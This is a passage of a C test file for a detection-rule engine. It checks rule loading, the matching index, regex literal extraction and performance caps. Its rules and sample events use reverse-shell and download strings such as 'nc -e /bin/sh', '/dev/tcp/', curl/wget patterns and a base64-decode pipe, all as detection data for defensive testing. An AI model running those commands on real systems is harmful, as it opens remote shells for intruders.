    assert_int_equal(tu_write(target, simple_rule(y, sizeof y, "evil", "id-e")), 0);
    snprintf(p, sizeof p, "%s/link.yml", dir);
    assert_int_equal(symlink(target, p), 0);
    snprintf(p, sizeof p, "%s/linkdir", dir);
    assert_int_equal(symlink(outside, p), 0);

    struct ds_engine *eng = engine(NULL);
    struct seen s = {0};
    char err[256];
    assert_int_equal(
        ds_engine_add_dir(eng, dir, accept_not_disabled, on_report, &s, err, sizeof err), 0);
    /* Name order: a.yaml, b.yml, link.yml, then sub/ (bad, c, deeper/d,
     * off); notes.txt and linkdir are not rule files. */
    assert_int_equal(ds_engine_rule_count(eng), 3);
    assert_string_equal(ds_crule_rule(ds_engine_rule_at(eng, 0))->title, "ay");
    assert_string_equal(ds_crule_rule(ds_engine_rule_at(eng, 1))->title, "bee");
    assert_string_equal(ds_crule_rule(ds_engine_rule_at(eng, 2))->title, "dee");
    printf("%s", s.log);
    const char *l = s.log;
    assert_non_null(l = strstr(l, "a.yaml 0 loaded|\n"));
    assert_non_null(l = strstr(l, "b.yml 0 loaded|\n"));
    assert_non_null(l = strstr(l, "link.yml 2 io_error|"));
    assert_non_null(strstr(l, "a symbolic link, which is not followed"));
    assert_non_null(l = strstr(l, "bad.yml 2 yaml_error|"));
    assert_non_null(l = strstr(l, "c.yml 2 duplicate_id|"));
    assert_non_null(strstr(l, "id id-b is already used by "));
    assert_non_null(l = strstr(l, "d.yml 0 loaded|"));
    assert_non_null(l = strstr(l, "off.yml 3 loaded|disabled by folder sub\n"));
    assert_int_equal(s.by_status[DS_ST_LOADED], 3);
    assert_int_equal(s.by_status[DS_ST_SKIPPED], 3);
    assert_int_equal(s.by_status[DS_ST_DISABLED], 1);
    assert_null(strstr(s.log, "evil"));
    assert_string_equal(ds_reason_name(DS_SKIP_DUPLICATE_ID), "duplicate_id");
    assert_int_equal(ds_reason_class(DS_SKIP_DUPLICATE_ID), DS_CLASS_INPUT);
    ds_engine_destroy(eng);

    /* A folder that is not there. */
    eng = engine(NULL);
    snprintf(p, sizeof p, "%s/none", dir);
    assert_int_equal(ds_engine_add_dir(eng, p, NULL, NULL, NULL, err, sizeof err), RP_ERR_IO);
    assert_non_null(strstr(err, "none"));
    ds_engine_destroy(eng);

    /* Past the depth cap. */
    char chain[2048];
    snprintf(chain, sizeof chain, "%s", outside);
    for (unsigned i = 0; i <= DS_DIR_DEPTH_MAX; i++) {
        size_t n = strlen(chain);
        snprintf(chain + n, sizeof chain - n, "/d");
        assert_int_equal(mkdir(chain, 0700), 0);
    }
    eng = engine(NULL);
    assert_int_equal(ds_engine_add_dir(eng, outside, NULL, NULL, NULL, err, sizeof err),
                     RP_ERR_RANGE);
    assert_non_null(strstr(err, "deeper than the cap"));
    ds_engine_destroy(eng);
    tu_rm_rf(dir);
    tu_rm_rf(outside);
}

/* ---- the hot path ---- */

static void test_no_allocation_per_event(void **state)
{
    (void)state;
    /* With the index (hash maps, automata, keyword scan) and without. */
    for (int no_index = 0; no_index < 2; no_index++) {
        struct ds_engine_opts o = {.no_index = no_index};
        struct ds_engine *eng = engine(&o);
        add_ok(eng, "revshell.yml", rule_revshell);
        add_ok(eng, "re.yml",
               "title: re\n" LNX("process_creation") "detection:\n"
                                                     "    sel:\n"
                                                     "        CommandLine|re|i: 'nc\\s+-e'\n"
                                                     "    kw:\n"
                                                     "        - '*python*'\n"
                                                     "    ref:\n"
                                                     "        Image|fieldref: ParentImage\n"
                                                     "    condition: sel or kw or ref\n");
        add_ok(eng, "kw.yml",
               "title: kw\n" LNX("process_creation") "detection:\n"
                                                     "    kw:\n"
                                                     "        - '/bin/sh'\n"
                                                     "    exact:\n"
                                                     "        User: root\n"
                                                     "    condition: kw or exact\n");
        assert_int_equal(ds_engine_build(eng), 0);
        struct fev e;
        struct ds_view v =
            fev_make(&e, eng, "process.executable", "/usr/bin/bash", "process.command_line",
                     "bash -c 'nc -e /bin/sh x 1'", "process.parent.executable", "/usr/bin/python3",
                     "user.name", "root", NULL);
        struct ds_eval_stats st;
        assert_int_equal(ds_engine_eval(eng, DS_EV_PROCESS_EXEC, &v, NULL, NULL, &st), 0);
        counting_install();
        unsigned matched = 0;
        allocations = 0;
        counting = 1;
        for (int i = 0; i < 100; i++) {
            assert_int_equal(ds_engine_eval(eng, DS_EV_PROCESS_EXEC, &v, NULL, NULL, &st), 0);
            matched += st.matched;
            char why[64];
            ds_engine_explain(eng, ds_engine_rule_at(eng, 2), &v, why, sizeof why);
        }
        counting = 0;
        assert_int_equal(allocations, 0);
        assert_int_equal(matched, 200);
        ds_engine_destroy(eng);
    }
}

/* A match callback that stops the evaluation: its value comes back. */
static int stop_at_first(void *ctx, const struct ds_crule *r)
{
    (void)r;
    (*(int *)ctx)++;
    return 7;
}

static void test_stop(void **state)
{
    (void)state;
    struct ds_engine *eng = engine(NULL);
    add_ok(eng, "a.yml",
           "title: a\n" LNX("process_creation") "detection:\n"
                                                "    sel:\n"
                                                "        Image|contains: bin\n"
                                                "    condition: sel\n");
    add_ok(eng, "b.yml",
           "title: b\n" LNX("process_creation") "detection:\n"
                                                "    sel:\n"
                                                "        Image|contains: usr\n"
                                                "    condition: sel\n");
    assert_int_equal(ds_engine_build(eng), 0);
    struct fev e;
    struct ds_view v = fev_make(&e, eng, "process.executable", "/usr/bin/ls", NULL);
    int calls = 0;
    assert_int_equal(ds_engine_eval(eng, DS_EV_PROCESS_EXEC, &v, stop_at_first, &calls, NULL), 7);
    assert_int_equal(calls, 1);
    ds_engine_destroy(eng);
}

/* ---- the index gives the results of the full evaluation ---- */

static uint64_t rng_state;

static uint32_t rnd(uint32_t n)
{
    /* xorshift64*: deterministic, so a failure reproduces. */
    rng_state ^= rng_state >> 12;
    rng_state ^= rng_state << 25;
    rng_state ^= rng_state >> 27;
    return (uint32_t)((rng_state * 2685821657736338717ull) >> 33) % n;
}

static const char *const words[] = {
    "/usr/bin/", "bash",      "curl", "/tmp/", " -c ",   "wget",        "python3",
    ".sh",       "/dev/tcp/", "nc",   " -e ",  "BASH",   "sh",          "http://",
    "x",         "/home/u/",  "1",    "|",     "base64", "/etc/passwd",
};
#define N_WORDS (sizeof(words) / sizeof(words[0]))

/* A value of 1 to 3 words, with a wildcard now and then. */
static void gen_value(char *buf, size_t len, bool wild)
{
    buf[0] = '\0';
    unsigned n = 1 + rnd(3);
    for (unsigned i = 0; i < n; i++) {
        size_t l = strlen(buf);
        const char *sep = (wild && rnd(5) == 0) ? (rnd(2) ? "*" : "?") : "";
        snprintf(buf + l, len - l, "%s%s", i ? sep : "", words[rnd(N_WORDS)]);
    }
}

struct gfield {
    const char *sigma, *ecs;
    int numeric; /* values are numbers or addresses */
};

static const struct gfield proc_fields[] = {
    {"Image", "process.executable", 0},
    {"CommandLine", "process.command_line", 0},
    {"ParentImage", "process.parent.executable", 0},
    {"ParentCommandLine", "process.parent.command_line", 0},
    {"CurrentDirectory", "process.working_directory", 0},
    {"User", "user.name", 0},
};
static const struct gfield file_fields[] = {
    {"TargetFilename", "file.path", 0},
    {"Image", "process.executable", 0},
};
static const struct gfield net_fields[] = {
    {"DestinationHostname", "destination.domain", 0},
    {"DestinationPort", "destination.port", 1},
    {"DestinationIp", "destination.ip", 2},
    {"Image", "process.executable", 0},
};

static const char *const gen_mods[] = {
    "",
    "|contains",
    "|startswith",
    "|endswith",
    "|contains|all",
    "|re",
    "|cased",
    "|contains|cased",
    "|windash|contains",
    "|base64offset|contains",
    "|exists",
    "|re|i",
    "|endswith|cased",
    "|all",
    "|fieldref",
};
#define N_MODS (sizeof(gen_mods) / sizeof(gen_mods[0]))

static const char *const gen_res[] = {
    "bash\\s+-c", "(curl|wget) ", "^/usr/bin/", "nc .*-e", "tmp/[a-z]+\\.sh$", "python3?",
};

/* Appends a printf'd piece to a growing buffer. */
__attribute__((format(printf, 3, 4))) static void cat(char *buf, size_t len, const char *fmt, ...)
{
    size_t l = strlen(buf);
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(buf + l, len - l, fmt, ap);
    va_end(ap);
}

static void gen_cond(char *buf, size_t len, unsigned nsel, unsigned depth)
{
    unsigned k = depth >= 2 ? 0 : rnd(6);
    switch (k) {
    case 1:
    case 2:
        cat(buf, len, "(");
        gen_cond(buf, len, nsel, depth + 1);
        cat(buf, len, k == 1 ? " and " : " or ");
        gen_cond(buf, len, nsel, depth + 1);
        cat(buf, len, ")");
        break;
    case 3:
        cat(buf, len, "not ");
        gen_cond(buf, len, nsel, depth + 1);
        break;
    case 4:
        cat(buf, len, "%s of sel*", rnd(2) ? "1" : "all");
        break;
    default:
        cat(buf, len, "sel%u", rnd(nsel));
    }
}

/* A random rule of category cat_name over fields f[0..nf). */
static void gen_rule(char *y, size_t len, unsigned id, const char *cat_name, const struct gfield *f,
                     size_t nf)
{
    snprintf(y, len, "title: g%u\n" LNX("%s") "detection:\n", id, cat_name);
    unsigned nsel = 1 + rnd(3);
    for (unsigned s = 0; s < nsel; s++) {
        bool list = rnd(4) == 0;
        cat(y, len, "    sel%u:\n", s);
        unsigned ngroups = list ? 1 + rnd(2) : 1;
        for (unsigned g = 0; g < ngroups; g++) {
            /* Distinct fields, so no key appears twice in one map. */
            unsigned nf_in = 1 + rnd(2), first = rnd((uint32_t)nf);
            for (unsigned i = 0; i < nf_in && i < nf; i++) {
                const struct gfield *fd = &f[(first + i) % nf];
                const char *ind = list ? (i == 0 ? "        - " : "          ") : "        ";
                const char *mod = gen_mods[rnd(N_MODS)];
                if (fd->numeric) {
                    if (fd->numeric == 1)
                        cat(y, len, "%s%s%s: %s\n", ind, fd->sigma, rnd(2) ? "" : "|gte",
                            rnd(2) ? "443" : "4444");
                    else
                        cat(y, len, "%s%s|cidr: '%s'\n", ind, fd->sigma,
                            rnd(2) ? "10.0.0.0/8" : "192.168.1.0/24");
                    continue;
                }
                if (strcmp(mod, "|exists") == 0) {
                    cat(y, len, "%s%s|exists: %s\n", ind, fd->sigma, rnd(2) ? "true" : "false");
                    continue;
                }
                if (strcmp(mod, "|fieldref") == 0) {
                    cat(y, len, "%s%s|fieldref: %s\n", ind, fd->sigma, f[rnd((uint32_t)nf)].sigma);
                    continue;
                }
                if (rnd(12) == 0) {
                    cat(y, len, "%s%s: null\n", ind, fd->sigma);
                    continue;
                }
                cat(y, len, "%s%s%s:\n", ind, fd->sigma, mod);
                unsigned nv = 1 + rnd(3);
                bool re = strstr(mod, "re") != NULL;
                bool b64 = strstr(mod, "base64") != NULL;
                for (unsigned v = 0; v < nv; v++) {
                    char val[128];
                    if (re)
                        snprintf(val, sizeof val, "%s", gen_res[rnd(6)]);
                    else
                        gen_value(val, sizeof val, !b64);
                    cat(y, len, "%s    - '%s'\n", list ? "          " : "        ", val);
                }
            }
        }
    }
    if (rnd(5) == 0) {
        cat(y, len, "    selkw:\n        - '%s'\n", words[rnd(N_WORDS)]);
    }
    cat(y, len, "    condition: ");
    gen_cond(y, len, nsel, 0);
    if (strstr(y, "selkw:") && rnd(2))
        cat(y, len, " or selkw");
    cat(y, len, "\n");
}

/* An event of type t with some of the fields set to generated text. */
static struct ds_view gen_event(struct fev *e, const struct ds_engine *eng, int t, char vals[][128])
{
    struct ds_view v = fev_make(e, eng, NULL);
    const struct gfield *f = t == DS_EV_PROCESS_EXEC      ? proc_fields
                             : t == DS_EV_NETWORK_CONNECT ? net_fields
                                                          : file_fields;
    size_t nf = t == DS_EV_PROCESS_EXEC      ? sizeof(proc_fields) / sizeof(proc_fields[0])
                : t == DS_EV_NETWORK_CONNECT ? sizeof(net_fields) / sizeof(net_fields[0])
                                             : sizeof(file_fields) / sizeof(file_fields[0]);
    size_t n = 0;
    for (size_t i = 0; i < nf; i++) {
        if (rnd(6) == 0)
            continue; /* absent */
        if (f[i].numeric == 1)
            snprintf(vals[i], 128, "%u", rnd(2) ? 443u : rnd(65536));
        else if (f[i].numeric == 2)
            snprintf(vals[i], 128, "%s.%u", rnd(2) ? "10.1.2" : "192.168.1", rnd(256));
        else if (rnd(10) == 0)
            vals[i][0] = '\0';
        else if (rnd(8) == 0) {
            /* base64 of some text, for base64offset. */
            static const char *const b64[] = {"L2Rldi90Y3Av", "YmFzaCAtYw==", "Y3VybCBodHRw"};
            snprintf(vals[i], 128, "echo %s|base64 -d", b64[rnd(3)]);
        } else
            gen_value(vals[i], 128, false);
        e->kv[n++] = f[i].ecs;
        e->kv[n++] = vals[i];
    }
    e->kv[n] = NULL;
    return v;
}

static void test_index_equals_full_evaluation(void **state)
{
    (void)state;
    rng_state = 0x9e3779b97f4a7c15ull;
    struct ds_engine_opts with = {0}, without = {.no_index = true};
    struct ds_engine *ix = engine(&with), *full = engine(&without);
    static char y[16384];
    unsigned loaded = 0;
    for (unsigned id = 0; id < 400; id++) {
        unsigned k = rnd(4);
        const char *cat_name = k < 2    ? "process_creation"
                               : k == 2 ? "file_event"
                                        : "network_connection";
        const struct gfield *f = k < 2 ? proc_fields : k == 2 ? file_fields : net_fields;
        size_t nf = k < 2    ? sizeof(proc_fields) / sizeof(proc_fields[0])
                    : k == 2 ? sizeof(file_fields) / sizeof(file_fields[0])
                             : sizeof(net_fields) / sizeof(net_fields[0]);
        gen_rule(y, sizeof y, id, cat_name, f, nf);
        struct ds_rule *r1 = NULL, *r2 = NULL;
        struct ds_load_result res;
        assert_int_equal(ds_rule_load_buffer("g.yml", y, strlen(y), &r1, &res), 0);
        if (!r1)
            fail_msg("generated rule refused: %s\n%s", res.msg, y);
        assert_int_equal(ds_rule_load_buffer("g.yml", y, strlen(y), &r2, &res), 0);
        struct ds_report rep1, rep2;
        assert_int_equal(ds_engine_add_rule(ix, r1, "g.yml", &rep1, NULL), 0);
        assert_int_equal(ds_engine_add_rule(full, r2, "g.yml", &rep2, NULL), 0);
        assert_int_equal(rep1.status, rep2.status);
        if (rep1.status != DS_ST_LOADED && rep1.status != DS_ST_DEAD)
            fail_msg("generated rule not compiled: %s\n%s", rep1.msg, y);
        loaded++;
    }
    assert_int_equal(ds_engine_build(ix), 0);
    assert_int_equal(ds_engine_build(full), 0);
    static const int types[] = {DS_EV_PROCESS_EXEC, DS_EV_FILE_CREATE, DS_EV_FILE_RENAME,
                                DS_EV_NETWORK_CONNECT};
    unsigned long matches = 0, cand_ix = 0, cand_full = 0;
    for (unsigned n = 0; n < 20000; n++) {
        int t = types[rnd(4)];
        struct fev e;
        char vals[8][128];
        struct ds_view v = gen_event(&e, ix, t, vals);
        struct hits h1, h2;
        struct ds_eval_stats s1, s2;
        eval_titles(ix, t, &v, &h1, &s1);
        e.eng = full; /* the same event, through the other engine's slots */
        eval_titles(full, t, &v, &h2, &s2);
        if (strcmp(h1.titles, h2.titles) != 0) {
            char ev[1024] = "";
            for (size_t i = 0; e.kv[i]; i += 2)
                cat(ev, sizeof ev, "%s=%s; ", e.kv[i], e.kv[i + 1]);
            fail_msg("event %u (%s): index [%s], full [%s]", n, ev, h1.titles, h2.titles);
        }
        assert_int_equal(s1.matched, s2.matched);
        assert_true(s1.candidates <= s2.candidates);
        matches += s1.matched;
        cand_ix += s1.candidates;
        cand_full += s2.candidates;
    }
    printf("%u generated rules, 20000 events: %lu matches; rules tested per event %.1f with the "
           "index, %.1f without\n",
           loaded, matches, (double)cand_ix / 20000, (double)cand_full / 20000);
    /* The comparison means something only when rules do match, and the
     * index must actually leave rules out. */
    assert_true(matches > 2000);
    assert_true(cand_ix * 2 < cand_full);
    ds_engine_destroy(ix);
    ds_engine_destroy(full);
}

/* ---- hand-made cases the index must not skip ---- */

/* One process_creation rule with the detection det, and events of the
 * given process.command_line values, each with whether the rule matches:
 * the full evaluation says so, and the index gives the same answer (a rule
 * the index wrongly leaves out is a missed alert). */
struct ix_event {
    const char *cmd;
    bool match;
    const char *exe; /* process.executable; NULL: absent */
};

static void index_case(const char *det, const struct ix_event *ev, size_t n)
{
    char y[4096];
    snprintf(y, sizeof y,
             "title: t\n"
             "id: 00000000-0000-0000-0000-000000000001\n" LNX("process_creation") "detection:\n%s",
             det);
    struct ds_engine_opts with = {0}, without = {.no_index = true};
    struct ds_engine *ix = engine(&with), *full = engine(&without);
    add_ok(ix, "ix.yml", y);
    add_ok(full, "full.yml", y);
    assert_int_equal(ds_engine_build(ix), 0);
    assert_int_equal(ds_engine_build(full), 0);
    for (size_t i = 0; i < n; i++) {
        struct fev e;
        struct ds_view v = ev[i].exe ? fev_make(&e, full, "process.command_line", ev[i].cmd,
                                                "process.executable", ev[i].exe, NULL)
                                     : fev_make(&e, full, "process.command_line", ev[i].cmd, NULL);
        struct hits h1, h2;
        eval_titles(full, DS_EV_PROCESS_EXEC, &v, &h1, NULL);
        if (strcmp(h1.titles, ev[i].match ? "t" : "") != 0)
            fail_msg("%s\non '%s': full evaluation [%s], expected %s", det, ev[i].cmd, h1.titles,
                     ev[i].match ? "a match" : "none");
        e.eng = ix;
        eval_titles(ix, DS_EV_PROCESS_EXEC, &v, &h2, NULL);
        if (strcmp(h1.titles, h2.titles) != 0)
            fail_msg("%s\non '%s': index [%s], full [%s]", det, ev[i].cmd, h2.titles, h1.titles);
    }
    ds_engine_destroy(ix);
    ds_engine_destroy(full);
}

#define IX_CASE(det, ...)                                                                          \
    do {                                                                                           \
        static const struct ix_event evs[] = {__VA_ARGS__};                                        \
        index_case(det, evs, sizeof(evs) / sizeof(evs[0]));                                        \
    } while (0)

/* The literal a regex must contain (match.c) is only what the pattern
 * really requires. */
static void test_index_regex_literals(void **state)
{
    (void)state;
    /* A POSIX class inside a bracket: the first ']' does not end the class,
     * so no ']' is required after it. */
    IX_CASE("    sel:\n        CommandLine|re: '[[:alpha:]]curl'\n    condition: sel\n",
            {"xcurl", true, NULL}, {"1curl", false, NULL});
    IX_CASE("    sel:\n        CommandLine|re: 'a[[:digit:]x]+bcd'\n    condition: sel\n",
            {"a1bcd", true, NULL}, {"a]bcd", false, NULL});
    /* (*ACCEPT) ends the match: nothing after it is required. */
    IX_CASE("    sel:\n        CommandLine|re: 'x(*ACCEPT)wgetwget'\n    condition: sel\n",
            {"x", true, NULL}, {"y", false, NULL});
    IX_CASE("    sel:\n        CommandLine|re: 'ab(c(*ACCEPT))?defgh'\n    condition: sel\n",
            {"abc", true, NULL}, {"abdefgh", true, NULL}, {"abd", false, NULL});
    /* Caseless UTF matching folds non-ASCII letters too, which the
     * ASCII-folded index text does not. */
    IX_CASE("    sel:\n        CommandLine|re|i: 'xÉTÉx'\n    condition: sel\n",
            {"xétéx", true, NULL}, {"XÉTÉX", true, NULL}, {"xetex", false, NULL});
    /* Quoted runs: \Q...\E hides brackets and parentheses (in the first,
     * the group holds ")[" then "]x": no "x)" is required). */
    IX_CASE("    sel:\n        CommandLine|re: '(\\Q)[\\E]x)yz'\n    condition: sel\n",
            {")[]xyz", true, NULL}, {"x)yz", false, NULL});
    IX_CASE("    sel:\n        CommandLine|re: '(\\Q)\\E|x)yz'\n    condition: sel\n",
            {"xyz", true, NULL}, {")yz", true, NULL}, {"yz", false, NULL});
    IX_CASE("    sel:\n        CommandLine|re: '[\\Q]\\E]abc'\n    condition: sel\n",
            {"]abc", true, NULL}, {"abc", false, NULL});
    /* Optional characters, lazy and possessive quantifiers. */
    IX_CASE("    sel:\n        CommandLine|re: 'nc(at)? -e?x{0,}y{0}z*+q'\n    condition: sel\n",
            {"nc -q", true, NULL}, {"ncat -exxxzq", true, NULL}, {"nc q", false, NULL});
}

/* Each construct of the language through the index, with events that
 * match and that nearly match: the index gives the full evaluation's
 * answer (these held before this test was written; they keep holding). */
static void test_index_constructs(void **state)
{
    (void)state;
    /* not / and / or / parentheses: a rule whose requirement is negated
     * runs on every event. */
    IX_CASE("    a:\n        CommandLine|contains: 'wget'\n"
            "    b:\n        Image|endswith: '/busybox'\n"
            "    condition: not a or (b and not a)\n",
            {"curl x", true, NULL}, {"wget x", false, NULL}, {"x", true, "/bin/busybox"});
    IX_CASE("    a:\n        CommandLine|contains: 'wget'\n"
            "    b:\n        Image|endswith: '/busybox'\n"
            "    condition: a and not b\n",
            {"wget x", true, NULL}, {"wget x", false, "/bin/busybox"}, {"WGET", true, "/bin/sh"});
    /* 1 of / all of, and a selection that is a list of maps. */
    IX_CASE("    sel_a:\n        CommandLine|startswith: 'nc '\n"
            "    sel_b:\n        - Image: /usr/bin/ncat\n        - CommandLine|contains: ' -e '\n"
            "    condition: 1 of sel_*\n",
            {"nc x", true, NULL}, {"x", true, "/USR/BIN/NCAT"}, {"a -e b", true, NULL},
            {"x nc y", false, NULL});
    IX_CASE("    sel_a:\n        CommandLine|startswith: 'nc '\n"
            "    sel_b:\n        - Image: /usr/bin/ncat\n        - CommandLine|contains: ' -e '\n"
            "    condition: all of sel_*\n",
            {"nc -e x", true, NULL}, {"nc x", true, "/usr/bin/ncat"}, {"nc x", false, NULL});
    /* all, cased, keywords. */
    IX_CASE("    sel:\n        CommandLine|contains|all:\n            - 'a'\n            - "
            "'/dev/tcp/'\n    condition: sel\n",
            {"x/DEV/TCP/", false, NULL}, {"a/DEV/TCP/", true, NULL});
    IX_CASE("    sel:\n        CommandLine|cased: 'Invoke-X'\n    condition: sel\n",
            {"Invoke-X", true, NULL}, {"invoke-x", false, NULL});
    IX_CASE("    keywords:\n        - 'mkfifo'\n    kw2:\n        '|all':\n            - 'chmod'\n"
            "            - '+x'\n    condition: keywords or kw2\n",
            {"x", true, "/usr/bin/MKFIFO"}, {"chmod +x y", true, NULL}, {"chmod", true, "+x"},
            {"chmod 755", false, NULL});
    /* base64offset, base64 of utf16, windash. */
    IX_CASE("    sel:\n        CommandLine|base64offset|contains: 'http://'\n"
            "    condition: sel\n",
            {"aHR0cDovL", true, NULL}, {"xodHRwOi8v", true, NULL}, {"h0dHA6Ly", true, NULL},
            {"aHR0cDov", false, NULL});
    IX_CASE("    sel:\n        CommandLine|wide|base64|contains: 'ab'\n    condition: sel\n",
            {"x YQBiAA== y", true, NULL}, {"YWI=", false, NULL});
    IX_CASE("    sel:\n        CommandLine|windash|contains: ' -enc '\n    condition: sel\n",
            {"x /enc y", true, NULL},
            {"x \xe2\x80\x94"
             "enc y",
             true, NULL},
            {"x enc y", false, NULL});
    /* null, exists, neq, fieldref, numbers. */
    IX_CASE("    sel:\n        Image: null\n    condition: sel\n", {"x", true, NULL},
            {"x", true, ""}, {"x", false, "/bin/sh"});
    IX_CASE("    sel:\n        Image|exists: false\n    condition: sel\n", {"x", true, NULL},
            {"x", false, ""});
    IX_CASE("    sel:\n        Image|neq: /bin/sh\n    condition: sel\n", {"x", false, NULL},
            {"x", true, "/bin/bash"}, {"x", false, "/BIN/SH"});
    IX_CASE("    sel:\n        CommandLine|fieldref|endswith: Image\n    condition: sel\n",
            {"sudo /bin/sh", true, "/bin/sh"}, {"sudo /bin/sh -c", false, "/bin/sh"});
    IX_CASE("    sel:\n        CommandLine: 4444\n    condition: sel\n", {"4444", true, NULL},
            {"04444", false, NULL});
    IX_CASE("    sel:\n        CommandLine|gt: 1000\n    condition: sel\n", {"1001", true, NULL},
            {"999", false, NULL});
}

/* The automaton reports each literal's first occurrence and what ends at
 * the value's end (ds_ac_scan_first): a prefix, a suffix and a substring
 * that occur again and again are still found where they count. */
static void test_index_repeats(void **state)
{
    (void)state;
    IX_CASE("    sel:\n        CommandLine|endswith: 'ab'\n    condition: sel\n",
            {"abababab", true, NULL}, {"ababa", false, NULL}, {"ab", true, NULL});
    IX_CASE("    sel:\n        CommandLine|startswith: 'aa'\n    condition: sel\n",
            {"aaaaaa", true, NULL}, {"baaaa", false, NULL});
    IX_CASE("    sel:\n        CommandLine|endswith:\n            - 'a'\n            - 'aa'\n"
            "            - 'aaa'\n    condition: sel\n",
            {"aaaaaaaaaab", false, NULL}, {"baaaaaaaaaa", true, NULL}, {"a", true, NULL});
    IX_CASE("    sel:\n        CommandLine|startswith|cased: 'Ab'\n"
            "    condition: sel\n",
            {"AbAbAb", true, NULL}, {"abAbAb", false, NULL});
    IX_CASE("    k:\n        - '|endswith': 'xy'\n    condition: k\n", {"xyxyxy", true, NULL},
            {"xyx", false, NULL});
}

/* fieldref|contains searches one event value in another: both are the
 * attacker's (an executable named "/tmp/aaa...ab", argv of "aaa..."), so
 * the search must not cost their product. 20 such rules on 4 KiB values
 * were 80 million byte comparisons per event; linear, they are a few
 * hundred thousand. CPU time, so a busy machine does not make it fail. */
static void test_fieldref_contains_linear(void **state)
{
    (void)state;
    struct ds_engine *eng = engine(&(struct ds_engine_opts){0});
    for (int i = 0; i < 20; i++) {
        char y[512];
        snprintf(y, sizeof y,
                 "title: r%d\nid: 00000000-0000-0000-0000-%012d\n" LNX(
                     "process_creation") "detection:\n    sel:\n        "
                                         "CommandLine|fieldref|contains%s: Image\n"
                                         "    condition: sel\n",
                 i, i, i % 2 ? "|cased" : "");
        add_ok(eng, "r.yml", y);
    }
    assert_int_equal(ds_engine_build(eng), 0);
    static char image[2049], cmd[4097], cmd_hit[4097];
    memset(image, 'a', 2047);
    image[2047] = 'b';
    memset(cmd, 'A', 4096);
    memcpy(cmd_hit, cmd, 4096);
    cmd_hit[4095] = 'b';
    struct timespec t0, t1;
    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t0);
    struct fev e;
    struct hits h;
    struct ds_view v =
        fev_make(&e, eng, "process.executable", image, "process.command_line", cmd, NULL);
    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, NULL), "");
    /* The folded ones find it at the very end; the cased ones do not
     * ('A' is not 'a'). */
    v = fev_make(&e, eng, "process.executable", image, "process.command_line", cmd_hit, NULL);
    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, NULL),
                        "r0,r2,r4,r6,r8,r10,r12,r14,r16,r18");
    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t1);
    double ms = (double)(t1.tv_sec - t0.tv_sec) * 1e3 + (double)(t1.tv_nsec - t0.tv_nsec) / 1e6;
    printf("fieldref|contains, 20 rules, 2 events of 4 KiB: %.2f ms of CPU\n", ms);
    assert_true(ms < 50.0);
    ds_engine_destroy(eng);
}

/* Literals that are suffixes of each other ("a", "aa", ... a^1024, 32
 * times over, through an expand placeholder) once made the automaton keep
 * each at every state it ends: 16.8 million entries, past its cap, and the
 * whole set failed to build - one rule pack could switch detection off.
 * Now each literal is kept once, and a value of one repeated byte only
 * reports each one once. */
static void test_index_suffix_literals(void **state)
{
    (void)state;
    static char *vals[1024];
    for (size_t i = 0; i < 1024; i++) {
        vals[i] = malloc(i + 2);
        assert_non_null(vals[i]);
        memset(vals[i], 'a', i + 1);
        vals[i][i + 1] = '\0';
    }
    const struct ds_placeholder ph = {"p", (const char *const *)vals, 1024};
    struct ds_engine_opts o = {.match = {.placeholders = &ph, .nplaceholders = 1}};
    struct ds_engine *eng = engine(&o);
    char y[2048];
    int n = snprintf(y, sizeof y,
                     "title: t\nid: 00000000-0000-0000-0000-000000000001\n" LNX(
                         "process_creation") "detection:\n    sel:\n"
                                             "        CommandLine|contains|expand:\n");
    for (int i = 0; i < 32; i++)
        n += snprintf(y + n, sizeof y - (size_t)n, "            - '%%p%%b'\n");
    snprintf(y + n, sizeof y - (size_t)n, "    condition: sel\n");
    add_ok(eng, "t.yml", y);
    assert_int_equal(ds_engine_build(eng), 0);
    static char cmd[4097];
    memset(cmd, 'a', 4096);
    struct fev e;
    struct hits h;
    struct ds_eval_stats st;
    struct ds_view v = fev_make(&e, eng, "process.command_line", cmd, NULL);
    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "");
    assert_int_equal(st.candidates, 0);
    cmd[4095] = 'b';
    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "t");
    ds_engine_destroy(eng);
    for (size_t i = 0; i < 1024; i++)
        free(vals[i]);
}

/* A rule whose literals take the automaton past its 4 Mi states (2048
 * values of 4 KiB through an expand placeholder) made ds_engine_build fail
 * for the whole set; now that rule runs on every event (its literals that
 * made it in may still mark it: it must run once) and the others stay
 * indexed. */
static void test_index_past_caps(void **state)
{
    (void)state;
    static char *vals[1024];
    for (size_t i = 0; i < 1024; i++) {
        vals[i] = malloc(4096);
        assert_non_null(vals[i]);
        memset(vals[i], 'x', 4095);
        vals[i][0] = (char)('a' + i % 26);
        vals[i][1] = (char)('a' + i / 26 % 26);
        vals[i][2] = (char)('a' + i / 676);
        vals[i][4095] = '\0';
    }
    const struct ds_placeholder ph = {"p", (const char *const *)vals, 1024};
    struct ds_engine_opts o = {.match = {.placeholders = &ph, .nplaceholders = 1}};
    struct ds_engine *eng = engine(&o);
    add_ok(eng, "big.yml",
           "title: big\nid: 00000000-0000-0000-0000-000000000001\n" LNX(
               "process_creation") "detection:\n    sel:\n"
                                   "        CommandLine|contains|expand:\n"
                                   "            - '%p%'\n"
                                   "            - 'y%p%'\n"
                                   "    condition: sel\n");
    add_ok(eng, "small.yml",
           "title: small\nid: 00000000-0000-0000-0000-000000000002\n" LNX(
               "process_creation") "detection:\n    sel:\n"
                                   "        CommandLine|contains: 'nc -e'\n"
                                   "    condition: sel\n");
    assert_int_equal(ds_engine_build(eng), 0);
    struct fev e;
    struct hits h;
    struct ds_eval_stats st;
    struct ds_view v = fev_make(&e, eng, "process.command_line", "ls", NULL);
    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "");
    assert_int_equal(st.candidates, 1); /* big, on every event; small left out */
    v = fev_make(&e, eng, "process.command_line", vals[700], NULL);
    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "big");
    assert_int_equal(st.candidates, 1);
    v = fev_make(&e, eng, "process.command_line", "x nc -e y", NULL);
    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "small");
